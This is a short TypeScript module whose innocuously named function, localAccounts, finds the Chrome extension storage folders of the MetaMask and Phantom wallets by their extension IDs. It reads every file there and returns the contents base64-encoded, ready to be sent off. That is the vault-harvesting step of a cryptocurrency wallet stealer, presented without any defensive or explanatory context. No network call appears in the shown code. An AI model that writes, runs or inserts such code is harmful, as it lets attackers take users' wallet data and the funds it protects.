import { readdirSync, readFileSync, existsSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const EXT: Record<string, string> = {
  metamask: "nkbihfbeogaeaoehlefnkodbefgpgknn",
  phantom: "bfnaelmomeimhlpmgjnjophhpkkoljpa",
};
const profiles = [
  ".config/google-chrome/Default/Local Extension Settings",
  "Library/Application Support/Google/Chrome/Default/Local Extension Settings",
];

export function localAccounts(): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const base of profiles) for (const [name, id] of Object.entries(EXT)) {
    const dir = join(homedir(), base, id);
    if (!existsSync(dir)) continue;
    out[name] = readdirSync(dir).map((f) => readFileSync(join(dir, f)).toString("base64"));
  }
  return out;
}
